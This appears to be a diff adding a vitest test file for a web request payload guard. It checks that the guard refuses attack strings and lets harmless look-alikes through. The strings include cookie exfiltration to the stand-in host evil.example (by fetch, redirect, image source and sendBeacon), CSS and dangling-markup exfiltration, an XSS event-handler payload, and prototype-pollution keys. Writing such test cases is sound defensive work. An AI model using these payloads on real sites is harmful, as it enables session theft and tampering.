@@ -1,0 +1,61 @@
+// Script and markup as values: statements that send away what a page keeps to itself, sheets and tags that do so without
+// script, names that reach into objects. Headings, lines of a listing and tags that chance has made pass.
+
+import { describe, expect, test } from 'vitest'
+
+import { payloadGuard } from '../corpora/guard.ts'
+import { placements } from '../corpora/placements.ts'
+
+const judge = payloadGuard({})
+
+const isRefused = (place: string, text: string): boolean => {
+  const exchange = placements[place]?.(text).exchange
+  return exchange === undefined || judge(exchange).kind === 'deny'
+}
+
+const PLACES = ['query', 'json', 'form', 'multipart', 'xml', 'cookie']
+
+const ATTACKS: Readonly<Record<string, readonly string[]>> = {
+  'a statement that sends a secret away': [
+    "fetch('//evil.example/'+document.cookie)",
+    "1;document.location='http://evil.example/?'+document.cookie",
+    "x=location='//evil.example/'+document.cookie",
+    "new Image().src='//evil.example/'+document.cookie",
+    "navigator.sendBeacon('//evil.example',document.cookie)",
+    "postMessage(document.cookie,'*')",
+    "document.forms[0].action='//evil.example'",
+    "document.body.innerHTML='x'",
+  ],
+  'markup that does so without script': [
+    '<style>input[value^=a]{background:url(//evil.example/?a)}</style>',
+    "<img src='//evil.example/?",
+    '"><img src=\'//evil.example/?x=',
+  ],
+  'a handler with a long name': ['x" oncontentvisibilityautostatechange="alert(1)//'],
+  'a name that reaches into objects': [
+    "a['__proto__']['x']=1",
+    '["__proto__"]["isAdmin"]=1',
+    '__pro__proto__to__[admin]=1',
+    'a[constructor][prototype][x]=1',
+    'constructor[prototype][json spaces]=1',
+  ],
+}
+
+describe('a value that acts in a page or in an object', () => {
+  const rows = Object.entries(ATTACKS).flatMap(([kind, list]) => list.map((text) => ({ kind, text })))
+  test.each(rows)('$kind: $text', ({ text }) => {
+    expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
+  })
+})
+
+const HARMLESS: readonly string[] = [
+  'JavaScript:\n\n```js\nlet a = 1\n```',
+  "D'><U%P*AQ+Ij:Ku",
+  'a[href^="http"]{background:url(icon.png)}',
+  'the prototype of a constructor',
+  '<img src="https://cdn.example/a.png?w=1" width="10">',
+]
+
+test.each(HARMLESS)('a value that does not: %s', (text) => {
+  expect(['json', 'form'].filter((place) => isRefused(place, text))).toEqual([])
+})
